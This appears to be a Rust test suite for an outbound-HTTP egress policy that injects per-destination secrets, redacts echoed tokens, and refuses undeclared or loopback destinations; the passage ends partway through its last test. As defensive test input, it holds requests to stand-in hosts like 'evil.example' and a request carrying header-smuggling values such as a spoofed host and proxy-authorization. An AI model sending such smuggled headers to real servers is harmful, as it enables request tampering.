//! Egress against real loopback HTTP servers that record every request byte for byte.

use std::convert::Infallible;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use bytes::Bytes;
use futures::future::BoxFuture;
use http::{HeaderName, Uri};
use http_body_util::combinators::UnsyncBoxBody;
use http_body_util::{BodyExt, Full, StreamBody};
use hyper::body::Frame;
use hyper_util::rt::TokioIo;
use wasmtime_wasi_http::{RequestOptions, WasiBody, WasiHttpHooks};

use super::send::execute;
use super::*;
use crate::manifest::SecretBinding;
use crate::net::destination::Destination;
use crate::net::resolve::ResolveError;
use crate::secrets::{BoundSecret, SecretValue};

/// One request as the server saw it.
#[derive(Debug, Clone)]
struct Seen {
    method: http::Method,
    path: String,
    query: Option<String>,
    headers: http::HeaderMap,
    body: Bytes,
}

type ServerBody = UnsyncBoxBody<Bytes, Infallible>;
type Reply = Arc<dyn Fn(Seen) -> BoxFuture<'static, http::Response<ServerBody>> + Send + Sync>;

/// A hyper HTTP/1.1 server on 127.0.0.1:0 that records connections and requests.
struct Server {
    addr: SocketAddr,
    seen: Arc<Mutex<Vec<Seen>>>,
    connections: Arc<AtomicUsize>,
    task: tokio::task::JoinHandle<()>,
}

impl Server {
    async fn start(reply: Reply) -> Server {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let connections = Arc::new(AtomicUsize::new(0));
        let task = tokio::spawn({
            let seen = seen.clone();
            let connections = connections.clone();
            async move {
                loop {
                    let Ok((stream, _)) = listener.accept().await else {
                        return;
                    };
                    connections.fetch_add(1, Ordering::SeqCst);
                    let seen = seen.clone();
                    let reply = reply.clone();
                    let service = hyper::service::service_fn(
                        move |req: http::Request<hyper::body::Incoming>| {
                            let seen = seen.clone();
                            let reply = reply.clone();
                            async move {
                                let (parts, body) = req.into_parts();
                                let body = body.collect().await.unwrap().to_bytes();
                                let request = Seen {
                                    method: parts.method,
                                    path: parts.uri.path().to_owned(),
                                    query: parts.uri.query().map(str::to_owned),
                                    headers: parts.headers,
                                    body,
                                };
                                seen.lock().unwrap().push(request.clone());
                                Ok::<_, Infallible>(reply(request).await)
                            }
                        },
                    );
                    tokio::spawn(async move {
                        let _ = hyper::server::conn::http1::Builder::new()
                            .serve_connection(TokioIo::new(stream), service)
                            .await;
                    });
                }
            }
        });
        Server {
            addr,
            seen,
            connections,
            task,
        }
    }

    /// A server answering every request with `respond(request)`.
    async fn replying(
        respond: impl Fn(&Seen) -> http::Response<ServerBody> + Send + Sync + 'static,
    ) -> Server {
        let respond = Arc::new(respond);
        Server::start(Arc::new(move |seen| {
            let response = respond(&seen);
            Box::pin(async move { response })
        }))
        .await
    }

    /// A server answering `200 ok`.
    async fn ok() -> Server {
        Server::replying(|_| response(200, "ok")).await
    }

    fn port(&self) -> u16 {
        self.addr.port()
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port())
    }

    fn destination(&self) -> Destination {
        self.url("").parse().unwrap()
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }

    fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.task.abort();
    }
}

fn full(body: impl Into<Bytes>) -> ServerBody {
    Full::new(body.into()).boxed_unsync()
}

fn response(status: u16, body: &'static str) -> http::Response<ServerBody> {
    http::Response::builder()
        .status(status)
        .body(full(body))
        .unwrap()
}

const COMPONENT: &str = "test-adapter";

fn policy(allow: &[&Server], local_ok: &[&Server], secrets: Vec<BoundSecret>) -> EgressPolicy {
    EgressPolicy {
        allow: allow.iter().map(|s| s.destination()).collect(),
        local_ok: local_ok.iter().map(|s| s.destination()).collect(),
        secrets,
        ..EgressPolicy::deny_all(COMPONENT)
    }
}

fn bound(name: &str, destination: &Destination, position: &str, value: &str) -> BoundSecret {
    let binding = SecretBinding {
        name: name.into(),
        destination: destination.clone(),
        position: position.parse().unwrap(),
    };
    BoundSecret::new(binding, SecretValue::new(value)).unwrap()
}

fn get(uri: &str) -> http::Request<Bytes> {
    http::Request::get(uri).body(Bytes::new()).unwrap()
}

const TOKEN: &str = "123456:ABC-def_ghi";

#[tokio::test]
async fn header_secret_goes_only_to_its_destination() {
    let a = Server::ok().await;
    let b = Server::ok().await;
    let secret = bound(
        "BOT_TOKEN",
        &a.destination(),
        "Authorization: Bot {secret}",
        TOKEN,
    );
    let p = policy(&[&a, &b], &[&a, &b], vec![secret]);

    let res = send_buffered(&p, get(&a.url("/api/users/@me")))
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    // A value the requester set itself is replaced, not appended to.
    let mut own = get(&a.url("/again"));
    own.headers_mut()
        .insert("authorization", "Bearer mine".parse().unwrap());
    send_buffered(&p, own).await.unwrap();

    let mut to_b = get(&b.url("/api/users/@me"));
    to_b.headers_mut()
        .insert("authorization", "Bearer mine".parse().unwrap());
    send_buffered(&p, to_b).await.unwrap();

    let seen = a.seen();
    assert_eq!(seen.len(), 2);
    for request in &seen {
        let values: Vec<&[u8]> = request
            .headers
            .get_all("authorization")
            .iter()
            .map(|v| v.as_bytes())
            .collect();
        assert_eq!(values, [format!("Bot {TOKEN}").as_bytes()]);
    }
    assert_eq!(seen[0].path, "/api/users/@me");
    assert_eq!(
        seen[0].headers["host"].as_bytes(),
        format!("127.0.0.1:{}", a.port()).as_bytes()
    );

    let seen_b = b.seen();
    assert_eq!(seen_b.len(), 1);
    assert!(seen_b[0].headers.get("authorization").is_none());
    assert_eq!(seen_b[0].path, "/api/users/@me");
}

#[tokio::test]
async fn path_prefix_secret_starts_the_path() {
    let a = Server::ok().await;
    let b = Server::ok().await;
    let secret = bound(
        "TELEGRAM_BOT_TOKEN",
        &a.destination(),
        "/bot{secret}",
        TOKEN,
    );
    let p = policy(&[&a, &b], &[&a, &b], vec![secret]);

    send_buffered(&p, get(&a.url("/getMe"))).await.unwrap();
    send_buffered(&p, get(&a.url("/getUpdates?offset=5&timeout=0")))
        .await
        .unwrap();
    send_buffered(&p, get(&a.url(""))).await.unwrap();
    send_buffered(&p, get(&b.url("/getMe"))).await.unwrap();

    let seen = a.seen();
    assert_eq!(seen[0].path, format!("/bot{TOKEN}/getMe"));
    assert_eq!(seen[0].query, None);
    assert_eq!(seen[1].path, format!("/bot{TOKEN}/getUpdates"));
    assert_eq!(seen[1].query.as_deref(), Some("offset=5&timeout=0"));
    assert_eq!(seen[2].path, format!("/bot{TOKEN}/"));
    let seen_b = b.seen();
    assert_eq!(seen_b[0].path, "/getMe");
}

#[tokio::test]
async fn connections_are_kept_per_component_and_destination() {
    let a = Server::ok().await;
    let b = Server::ok().await;
    let p = policy(&[&a, &b], &[&a, &b], Vec::new());
    for _ in 0..3 {
        send_buffered(&p, get(&a.url("/x"))).await.unwrap();
    }
    send_buffered(&p, get(&b.url("/y"))).await.unwrap();
    assert_eq!(a.connections(), 1, "one kept connection serves all three");
    assert_eq!(b.connections(), 1);
    assert_eq!(p.pool.idle_count(), 2);
    // Another component (another policy) never uses them.
    let other = policy(&[&a], &[&a], Vec::new());
    send_buffered(&other, get(&a.url("/z"))).await.unwrap();
    assert_eq!(a.connections(), 2);
    // A connection the server closes after its answer is not kept.
    let c = Server::replying(|_| {
        let mut r = response(200, "bye");
        r.headers_mut()
            .insert(http::header::CONNECTION, "close".parse().unwrap());
        r
    })
    .await;
    let q = policy(&[&c], &[&c], Vec::new());
    send_buffered(&q, get(&c.url("/1"))).await.unwrap();
    tokio::time::sleep(Duration::from_millis(50)).await;
    send_buffered(&q, get(&c.url("/2"))).await.unwrap();
    assert_eq!(c.connections(), 2);
    assert_eq!(c.seen().len(), 2);
}

#[tokio::test]
async fn a_scoped_path_prefix_replaces_its_scope() {
    let a = Server::ok().await;
    let methods = bound(
        "TELEGRAM_BOT_TOKEN",
        &a.destination(),
        "/bot{secret}",
        TOKEN,
    );
    let files = bound(
        "TELEGRAM_BOT_TOKEN",
        &a.destination(),
        "/file => /file/bot{secret}",
        TOKEN,
    );
    let p = policy(&[&a], &[&a], vec![methods, files]);

    for path in [
        "/getMe",
        "/file/photos/file_7.jpg",
        "/file",
        "/files/x",
        "/file?x=1",
    ] {
        send_buffered(&p, get(&a.url(path))).await.unwrap();
    }
    let paths: Vec<(String, Option<String>)> =
        a.seen().into_iter().map(|s| (s.path, s.query)).collect();
    assert_eq!(
        paths,
        [
            (format!("/bot{TOKEN}/getMe"), None),
            (format!("/file/bot{TOKEN}/photos/file_7.jpg"), None),
            (format!("/file/bot{TOKEN}"), None),
            (format!("/bot{TOKEN}/files/x"), None),
            (format!("/file/bot{TOKEN}"), Some("x=1".into())),
        ]
    );
}

#[tokio::test]
async fn placeholders_in_body_and_query_are_sent_untouched() {
    let a = Server::ok().await;
    let secrets = vec![
        bound(
            "TELEGRAM_BOT_TOKEN",
            &a.destination(),
            "/bot{secret}",
            TOKEN,
        ),
        bound("API_KEY", &a.destination(), "X-Api-Key: {secret}", "k-123"),
    ];
    let p = policy(&[&a], &[&a], secrets);
    let body = r#"{"chat_id":1,"text":"{secret} {SECRET} /bot{secret} $API_KEY"}"#;
    let query = "text={secret}&also=%7Bsecret%7D";
    let request = http::Request::post(a.url(&format!("/sendMessage?{query}")))
        .header("content-type", "application/json")
        .body(Bytes::from_static(body.as_bytes()))
        .unwrap();
    send_buffered(&p, request).await.unwrap();

    let seen = &a.seen()[0];
    assert_eq!(seen.method, http::Method::POST);
    assert_eq!(seen.path, format!("/bot{TOKEN}/sendMessage"));
    assert_eq!(seen.query.as_deref(), Some(query));
    assert_eq!(&seen.body[..], body.as_bytes());
    assert_eq!(seen.headers["x-api-key"].as_bytes(), b"k-123");
    assert_eq!(seen.headers["content-type"].as_bytes(), b"application/json");
}

#[tokio::test]
async fn loopback_without_local_ok_is_refused_before_connecting() {
    let a = Server::ok().await;
    let secret = bound(
        "BOT_TOKEN",
        &a.destination(),
        "Authorization: Bot {secret}",
        TOKEN,
    );
    let p = policy(&[&a], &[], vec![secret]);
    let err = send_buffered(&p, get(&a.url("/x"))).await.unwrap_err();
    match &err {
        EgressError::Resolve(ResolveError::Restricted { addr, reason, .. }) => {
            assert_eq!(addr.to_string(), "127.0.0.1");
            assert_eq!(*reason, "loopback");
        }
        other => panic!("expected a restricted address, got {other:?}"),
    }
    let msg = err.to_string();
    assert!(msg.contains(&a.destination().to_string()), "{msg}");
    assert!(
        msg.contains(&format!(
            "[components.{COMPONENT}.grant] local = [\"{}\"]",
            a.destination()
        )),
        "{msg}"
    );
    assert!(!msg.contains(TOKEN));
    assert!(matches!(
        wasmtime_wasi_http::Error::from(err),
        wasmtime_wasi_http::Error::DestinationIpProhibited
    ));
    assert_eq!(a.connections(), 0);
}

#[tokio::test]
async fn localhost_name_without_local_ok_is_refused() {
    let a = Server::ok().await;
    let by_name: Destination = format!("http://localhost:{}", a.port()).parse().unwrap();
    let mut p = policy(&[], &[], Vec::new());
    p.allow.push(by_name.clone());
    let uri = format!("http://localhost:{}/x", a.port());
    let err = send_buffered(&p, get(&uri)).await.unwrap_err();
    assert!(
        matches!(
            err,
            EgressError::Resolve(ResolveError::Restricted {
                reason: "loopback",
                ..
            })
        ),
        "{err:?}"
    );
    assert_eq!(a.connections(), 0);

    // Granted for local use, the same name connects (to the addresses it resolved to).
    p.local_ok.push(by_name);
    let res = send_buffered(&p, get(&uri)).await.unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(
        a.seen()[0].headers["host"].as_bytes(),
        format!("localhost:{}", a.port()).as_bytes()
    );
}

#[tokio::test]
async fn undeclared_destination_is_denied_without_connecting() {
    let a = Server::ok().await;
    let b = Server::ok().await;
    let p = policy(&[&a], &[&a, &b], Vec::new());

    let err = send_buffered(&p, get(&b.url("/x"))).await.unwrap_err();
    assert_eq!(
        err.to_string(),
        format!(
            "{} is not in outbound_http of component {COMPONENT}; add it to the manifest and grant it",
            b.destination()
        )
    );
    assert_eq!(b.connections(), 0);

    // Refused before any lookup: a name that does not resolve is still "not allowed".
    let err = send_buffered(&p, get("https://evil.invalid/bot/getMe"))
        .await
        .unwrap_err();
    assert!(
        err.to_string()
            .starts_with("https://evil.invalid is not in outbound_http"),
        "{err}"
    );
    assert!(matches!(
        wasmtime_wasi_http::Error::from(err),
        wasmtime_wasi_http::Error::HttpRequestDenied
    ));

    // An empty list denies everything.
    let none = policy(&[], &[&a], Vec::new());
    let err = send_buffered(&none, get(&a.url("/"))).await.unwrap_err();
    assert!(matches!(err, EgressError::NotAllowed { .. }), "{err:?}");
    assert_eq!(a.connections(), 0);
}

#[tokio::test]
async fn echoed_secrets_are_scrubbed_from_the_response() {
    let a = Server::replying(|seen| {
        // Echo the path (which holds the injected token) and the auth header back.
        let auth = seen.headers["authorization"].clone();
        let body = format!(
            "path={} auth={} encoded={}",
            seen.path,
            auth.to_str().unwrap(),
            seen.path.replace(':', "%3A")
        );
        http::Response::builder()
            .status(200)
            .header("x-echo", auth)
            .header("location", format!("https://cdn.example{}", seen.path))
            .body(full(body))
            .unwrap()
    })
    .await;
    let secrets = vec![
        bound(
            "TELEGRAM_BOT_TOKEN",
            &a.destination(),
            "/bot{secret}",
            TOKEN,
        ),
        bound(
            "AUTH",
            &a.destination(),
            "Authorization: Bot {secret}",
            "xyz.987",
        ),
    ];
    let p = policy(&[&a], &[&a], secrets);
    let res = send_buffered(&p, get(&a.url("/getMe"))).await.unwrap();

    let body = std::str::from_utf8(res.body()).unwrap();
    assert_eq!(
        body,
        "path=/bot[redacted]/getMe auth=Bot [redacted] encoded=/bot[redacted]/getMe"
    );
    assert_eq!(res.headers()["x-echo"].as_bytes(), b"Bot [redacted]");
    assert_eq!(
        res.headers()["location"].as_bytes(),
        b"https://cdn.example/bot[redacted]/getMe"
    );
    assert_eq!(
        res.headers()["content-length"].as_bytes(),
        body.len().to_string().as_bytes()
    );
    // The server really did see the token: the scrubbing happened on the way back.
    assert_eq!(a.seen()[0].path, format!("/bot{TOKEN}/getMe"));
}

#[tokio::test]
async fn responses_over_the_cap_are_refused() {
    let declared = Server::replying(|_| http::Response::new(full(vec![b'x'; 2000]))).await;
    let chunked = Server::replying(|_| {
        let chunks = (0..3).map(|_| Ok::<_, Infallible>(Frame::data(Bytes::from(vec![b'y'; 600]))));
        http::Response::new(StreamBody::new(futures::stream::iter(chunks)).boxed_unsync())
    })
    .await;
    let exact = Server::replying(|_| http::Response::new(full(vec![b'z'; 1000]))).await;
    let mut p = policy(
        &[&declared, &chunked, &exact],
        &[&declared, &chunked, &exact],
        Vec::new(),
    );
    p.max_response_bytes = 1000;

    for server in [&declared, &chunked] {
        let err = send_buffered(&p, get(&server.url("/big")))
            .await
            .unwrap_err();
        assert!(
            matches!(err, EgressError::ResponseTooLarge { limit: 1000, .. }),
            "{err:?}"
        );
        assert!(err.to_string().contains("larger than 1000 bytes"), "{err}");
        assert!(matches!(
            wasmtime_wasi_http::Error::from(err),
            wasmtime_wasi_http::Error::HttpResponseBodySize(Some(1000))
        ));
    }
    let res = send_buffered(&p, get(&exact.url("/fits"))).await.unwrap();
    assert_eq!(res.body().len(), 1000);
}

#[tokio::test]
async fn redirects_are_returned_not_followed() {
    let b = Server::ok().await;
    let target = b.url("/next");
    let a = Server::replying(move |_| {
        http::Response::builder()
            .status(302)
            .header("location", &target)
            .body(full(""))
            .unwrap()
    })
    .await;
    let p = policy(&[&a, &b], &[&a, &b], Vec::new());
    let res = send_buffered(&p, get(&a.url("/start"))).await.unwrap();
    assert_eq!(res.status(), 302);
    assert_eq!(
        res.headers()["location"].as_bytes(),
        b.url("/next").as_bytes()
    );
    assert!(res.body().is_empty());
    assert_eq!(b.connections(), 0);
}

#[tokio::test]
async fn first_byte_timeout_is_clamped_to_the_policy() {
    let slow = Server::start(Arc::new(|_| {
        Box::pin(async {
            tokio::time::sleep(Duration::from_secs(5)).await;
            response(200, "late")
        })
    }))
    .await;
    let mut p = policy(&[&slow], &[&slow], Vec::new());
    p.max_timeout = Duration::from_millis(200);
    // The whole-exchange deadline is tested on its own; here it must not be
    // the one that fires (with both at 200 ms, a slow connect decides).
    p.max_exchange = Some(Duration::from_secs(5));
    let started = Instant::now();
    let request = get(&slow.url("/slow")).map(Full::new);
    let options = RequestOptions {
        first_byte_timeout: Some(Duration::from_secs(60)),
        ..Default::default()
    };
    let err = execute(&p, request, Some(options)).await.unwrap_err();
    assert!(
        matches!(
            err,
            EgressError::Timeout {
                phase: Phase::FirstByte,
                ..
            }
        ),
        "{err:?}"
    );
    assert!(started.elapsed() < Duration::from_secs(3));
}

#[test]
fn timeouts_clamp() {
    let mut p = EgressPolicy::deny_all(COMPONENT);
    p.max_timeout = Duration::from_secs(30);
    let secs = Duration::from_secs;
    assert_eq!(
        p.clamp(None),
        Timeouts {
            connect: secs(30),
            first_byte: secs(30),
            between_bytes: secs(30)
        }
    );
    let options = RequestOptions {
        connect_timeout: Some(secs(5)),
        first_byte_timeout: Some(secs(600)),
        between_bytes_timeout: None,
    };
    assert_eq!(
        p.clamp(Some(options)),
        Timeouts {
            connect: secs(5),
            first_byte: secs(30),
            between_bytes: secs(30)
        }
    );
}

#[test]
fn check_table() {
    let mut p = EgressPolicy::deny_all(COMPONENT);
    p.allow = vec![
        "https://api.telegram.org".parse().unwrap(),
        "http://127.0.0.1:8081".parse().unwrap(),
        "wss://gateway.discord.gg".parse().unwrap(),
    ];
    // (uri, Ok(matched destination) or Err(piece of the message))
    #[rustfmt::skip]
    let cases: &[(&str, Result<&str, &str>)] = &[
        ("https://api.telegram.org/bot/getMe", Ok("https://api.telegram.org")),
        ("https://API.telegram.org:443/x?y", Ok("https://api.telegram.org")),
        ("http://127.0.0.1:8081/", Ok("http://127.0.0.1:8081")),
        ("http://api.telegram.org/x", Err("http://api.telegram.org is not in outbound_http")),
        ("https://api.telegram.org:8443/", Err("https://api.telegram.org:8443 is not in outbound_http")),
        ("https://evil.example/", Err("https://evil.example is not in outbound_http of component test-adapter")),
        ("http://127.0.0.1:8082/", Err("http://127.0.0.1:8082 is not in outbound_http")),
        ("wss://gateway.discord.gg/", Err("egress carries only http:// and https://")),
        ("ftp://api.telegram.org/", Err("egress carries only http:// and https://")),
        ("https://u:p@api.telegram.org/", Err("userinfo")),
        ("/relative", Err("no scheme")),
    ];
    for (uri, expected) in cases {
        let parsed: Uri = uri.parse().unwrap();
        match (p.check(&parsed), expected) {
            (Ok(d), Ok(want)) => assert_eq!(d.to_string(), *want, "{uri}"),
            (Err(e), Err(want)) => assert!(e.to_string().contains(want), "{uri}: {e}"),
            (got, want) => panic!("{uri}: got {got:?}, want {want:?}"),
        }
    }
    assert!(matches!(
        EgressPolicy::deny_all(COMPONENT).check(&"https://api.telegram.org/".parse().unwrap()),
        Err(EgressError::NotAllowed { .. })
    ));
}

#[test]
fn hooks_forbid_headers_that_carry_secrets() {
    let api: Destination = "https://discord.com".parse().unwrap();
    let other: Destination = "https://api.example".parse().unwrap();
    let mut p = EgressPolicy::deny_all(COMPONENT);
    p.secrets = vec![
        bound("DISCORD_TOKEN", &api, "Authorization: Bot {secret}", "t"),
        bound("OTHER_KEY", &other, "X-Api-Key: {secret}", "k"),
        bound("TG", &other, "/bot{secret}", "k"),
    ];
    let mut hooks = EgressHooks::new(Arc::new(p));
    let filter = hooks.forbidden_header_filter();
    for (name, forbidden) in [
        ("authorization", true),
        ("x-api-key", true),
        ("host", true),
        ("connection", true),
        ("transfer-encoding", true),
        ("content-type", false),
        ("x-custom", false),
    ] {
        let name = http::HeaderName::from_static(name);
        assert_eq!(filter(&name), forbidden, "{name}");
        assert_eq!(hooks.is_forbidden_header(&name), forbidden, "{name}");
    }
    assert!(hooks.is_supported_scheme(&http::uri::Scheme::HTTPS));
    assert!(!hooks.is_supported_scheme(&"ws".parse().unwrap()));
}

fn wasi_body(bytes: &'static str) -> WasiBody {
    Full::new(Bytes::from_static(bytes.as_bytes()))
        .map_err(|never| match never {})
        .boxed_unsync()
}

#[tokio::test]
async fn hooks_send_request_goes_through_egress() {
    let a = Server::replying(|seen| {
        http::Response::new(full(format!("got {}", String::from_utf8_lossy(&seen.body))))
    })
    .await;
    let secret = bound(
        "BOT_TOKEN",
        &a.destination(),
        "Authorization: Bot {secret}",
        TOKEN,
    );
    let mut hooks = EgressHooks::new(Arc::new(policy(&[&a], &[&a], vec![secret])));

    // Built the way wasmtime's outgoing-handler builds it: absolute URI plus a Host header.
    let request = http::Request::post(a.url("/echo"))
        .header("host", format!("127.0.0.1:{}", a.port()))
        .body(wasi_body("hello {secret}"))
        .unwrap();
    let future = hooks.send_request(request, None, Box::new(async { Ok(()) }));
    let (response, io) = Pin::from(future).await.unwrap();
    assert_eq!(response.status(), 200);
    let body = response.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(&body[..], b"got hello {secret}");
    Pin::from(io).await.unwrap();

    let seen = &a.seen()[0];
    assert_eq!(&seen.body[..], b"hello {secret}");
    assert_eq!(
        seen.headers["authorization"].as_bytes(),
        format!("Bot {TOKEN}").as_bytes()
    );

    // Refusals reach the guest as wasi:http error codes.
    let request = http::Request::get("https://evil.example/")
        .body(wasi_body(""))
        .unwrap();
    let future = hooks.send_request(request, None, Box::new(async { Ok(()) }));
    let err = Pin::from(future).await.err().unwrap();
    assert!(
        matches!(err, wasmtime_wasi_http::Error::HttpRequestDenied),
        "{err:?}"
    );
    assert_eq!(a.connections(), 1);
}

#[tokio::test]
async fn https_destinations_speak_tls() {
    // A plain-HTTP server cannot complete a TLS handshake: the request fails as a TLS error,
    // and no HTTP request reaches it in clear text.
    let a = Server::ok().await;
    let destination: Destination = format!("https://localhost:{}", a.port()).parse().unwrap();
    let mut p = EgressPolicy::deny_all(COMPONENT);
    p.allow.push(destination.clone());
    p.local_ok.push(destination);
    p.max_timeout = Duration::from_secs(5);
    let uri = format!("https://localhost:{}/x", a.port());
    let err = send_buffered(&p, get(&uri)).await.unwrap_err();
    assert!(matches!(err, EgressError::Tls { .. }), "{err:?}");
    assert!(a.seen().is_empty());
}

#[tokio::test]
async fn path_prefix_secrets_are_scrubbed_as_they_were_sent() {
    // (secret, how the path prefix carries it: only non-pchar bytes are percent-encoded)
    let cases = [
        ("abc/def+ghi=", "abc%2Fdef+ghi="),
        ("p@ss w0rd", "p@ss%20w0rd"),
        ("tok:en/x", "tok:en%2Fx"),
    ];
    for (value, sent) in cases {
        // Echo the request path, as received, in the body and in a header.
        let a = Server::replying(|seen| {
            http::Response::builder()
                .status(200)
                .header("x-path", seen.path.as_str())
                .body(full(format!("no such method: {}", seen.path)))
                .unwrap()
        })
        .await;
        let secret = bound("BOT_TOKEN", &a.destination(), "/bot{secret}", value);
        let p = policy(&[&a], &[&a], vec![secret]);
        let res = send_buffered(&p, get(&a.url("/getMe"))).await.unwrap();

        assert_eq!(a.seen()[0].path, format!("/bot{sent}/getMe"), "{value}");
        assert_eq!(
            std::str::from_utf8(res.body()).unwrap(),
            "no such method: /bot[redacted]/getMe",
            "{value}"
        );
        assert_eq!(
            res.headers()["x-path"].as_bytes(),
            b"/bot[redacted]/getMe",
            "{value}"
        );
    }
}

#[tokio::test]
async fn host_owned_headers_from_the_requester_are_dropped() {
    let a = Server::replying(|seen| http::Response::new(full(seen.body.clone()))).await;
    let b: Destination = "https://other.example".parse().unwrap();
    let secret = bound("OTHER_KEY", &b, "X-Api-Key: {secret}", "k-123");
    let p = policy(&[&a], &[&a], vec![secret]);

    // What a component could put into a request the host sends on its behalf.
    let request = http::Request::post(a.url("/send"))
        .header("connection", "x-smuggle")
        .header("keep-alive", "timeout=600")
        .header("transfer-encoding", "gzip")
        .header("content-length", "3")
        .header("upgrade", "websocket")
        .header("host", "evil.example")
        .header("te", "trailers")
        .header("trailer", "x-late")
        .header("proxy-authorization", "Basic eA==")
        .header("x-api-key", "mine")
        .header("x-custom", "kept")
        .body(Bytes::from_static(b"hello world"))
        .unwrap();
    let res = send_buffered(&p, request).await.unwrap();
    assert_eq!(&res.body()[..], b"hello world");

    let seen = &a.seen()[0];
    assert_eq!(&seen.body[..], b"hello world");
    assert_eq!(seen.headers["content-length"].as_bytes(), b"11");
    assert_eq!(
        seen.headers["host"].as_bytes(),
        format!("127.0.0.1:{}", a.port()).as_bytes()
    );
    for name in [
        "connection",
        "keep-alive",
        "transfer-encoding",
        "upgrade",
        "te",
        "trailer",
        "proxy-authorization",
        "x-api-key",
    ] {
        assert!(seen.headers.get(name).is_none(), "{name} was sent");
    }
    assert_eq!(seen.headers["x-custom"].as_bytes(), b"kept");
}

#[tokio::test]
async fn query_only_uri_is_sent_with_root_path() {
    let a = Server::ok().await;
    let p = policy(&[&a], &[&a], Vec::new());
    let res = send_buffered(&p, get(&format!("http://127.0.0.1:{}?q=1", a.port())))
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let seen = &a.seen()[0];
    assert_eq!(seen.path, "/");
    assert_eq!(seen.query.as_deref(), Some("q=1"));
}

#[tokio::test]
async fn a_trickling_response_hits_the_total_deadline() {
    // One byte every 50 ms: never slow enough for the between-bytes timeout, never done.
    let trickle = Server::replying(|_| {
        let drip = futures::stream::unfold((), |()| async {
            tokio::time::sleep(Duration::from_millis(50)).await;
            Some((
                Ok::<_, Infallible>(Frame::data(Bytes::from_static(b"x"))),
                (),
            ))
        });
        http::Response::new(StreamBody::new(drip).boxed_unsync())
    })
    .await;
    let mut p = policy(&[&trickle], &[&trickle], Vec::new());
    p.max_timeout = Duration::from_millis(300);
    let started = Instant::now();
    let result = tokio::time::timeout(
        Duration::from_secs(5),
        send_buffered(&p, get(&trickle.url("/drip"))),
    )
    .await
    .expect("the exchange must end at its deadline");
    let err = result.unwrap_err();
    assert!(
        matches!(
            err,
            EgressError::Timeout { phase: Phase::Exchange, after, .. }
                if after == Duration::from_millis(300)
        ),
        "{err:?}"
    );
    assert!(
        err.to_string().starts_with(&format!(
            "no complete response from {} within 300ms",
            trickle.destination()
        )),
        "{err}"
    );
    assert!(matches!(
        wasmtime_wasi_http::Error::from(err),
        wasmtime_wasi_http::Error::HttpResponseTimeout
    ));
    assert!(started.elapsed() < Duration::from_secs(2));

    // A separate total deadline wins over `max_timeout`.
    p.max_timeout = Duration::from_secs(30);
    p.max_exchange = Some(Duration::from_millis(200));
    let err = send_buffered(&p, get(&trickle.url("/drip")))
        .await
        .unwrap_err();
    assert!(
        matches!(err, EgressError::Timeout { phase: Phase::Exchange, after, .. }
            if after == Duration::from_millis(200)),
        "{err:?}"
    );
}

/// A server that holds every request for `hold` and records how many it held at once.
async fn holding(hold: Duration) -> (Server, Arc<AtomicUsize>) {
    let now = Arc::new(AtomicUsize::new(0));
    let most = Arc::new(AtomicUsize::new(0));
    let server = Server::start(Arc::new({
        let most = most.clone();
        move |_| {
            let now = now.clone();
            let most = most.clone();
            Box::pin(async move {
                let held = now.fetch_add(1, Ordering::SeqCst) + 1;
                most.fetch_max(held, Ordering::SeqCst);
                tokio::time::sleep(hold).await;
                now.fetch_sub(1, Ordering::SeqCst);
                response(200, "ok")
            })
        }
    }))
    .await;
    (server, most)
}

#[tokio::test]
async fn requests_in_flight_are_limited_per_component() {
    let (a, most) = holding(Duration::from_millis(200)).await;
    let p = policy(&[&a], &[&a], Vec::new());
    let requests = (0..12).map(|i| send_buffered(&p, get(&a.url(&format!("/{i}")))));
    for result in futures::future::join_all(requests).await {
        assert_eq!(result.unwrap().status(), 200);
    }
    assert_eq!(a.seen().len(), 12);
    assert_eq!(most.load(Ordering::SeqCst), 8);
}

#[tokio::test]
async fn a_request_beyond_the_in_flight_limit_waits_then_gives_up() {
    let (a, most) = holding(Duration::from_millis(600)).await;
    let mut p = policy(&[&a], &[&a], Vec::new());
    p.in_flight = InFlightLimit::new(1);
    let p = Arc::new(p);

    let first = tokio::spawn({
        let p = p.clone();
        let url = a.url("/first");
        async move { send_buffered(&p, get(&url)).await }
    });
    while a.seen().is_empty() {
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    assert_eq!(p.in_flight.available(), 0);

    // No slot frees up within this request's connect timeout.
    let started = Instant::now();
    let options = RequestOptions {
        connect_timeout: Some(Duration::from_millis(100)),
        ..Default::default()
    };
    let request = get(&a.url("/second")).map(Full::new);
    let err = execute(&p, request, Some(options)).await.unwrap_err();
    assert!(started.elapsed() < Duration::from_millis(500));
    match &err {
        EgressError::ConnectionLimitReached { limit, waited, .. } => {
            assert_eq!(*limit, 1);
            assert!(*waited >= Duration::from_millis(100), "{waited:?}");
        }
        other => panic!("expected ConnectionLimitReached, got {other:?}"),
    }
    let msg = err.to_string();
    assert!(
        msg.starts_with(&format!(
            "component {COMPONENT} already has 1 requests in flight, the most it may have; \
             the request to {} waited",
            a.destination()
        )),
        "{msg}"
    );
    assert!(err.is_denial());
    assert!(matches!(
        wasmtime_wasi_http::Error::from(err),
        wasmtime_wasi_http::Error::ConnectionLimitReached
    ));
    assert_eq!(a.seen().len(), 1);

    // One that may wait long enough gets the slot once the first is done, and gives it back.
    let third = send_buffered(&p, get(&a.url("/third"))).await.unwrap();
    assert_eq!(third.status(), 200);
    assert_eq!(first.await.unwrap().unwrap().status(), 200);
    assert_eq!(most.load(Ordering::SeqCst), 1);
    assert_eq!(p.in_flight.available(), 1);

    // Refusals do not take a slot.
    let err = send_buffered(&p, get("https://evil.example/"))
        .await
        .unwrap_err();
    assert!(matches!(err, EgressError::NotAllowed { .. }));
    assert_eq!(p.in_flight.available(), 1);
}

#[test]
fn in_flight_and_deadline_defaults() {
    let p = EgressPolicy::deny_all(COMPONENT);
    assert_eq!(p.in_flight.limit(), 8);
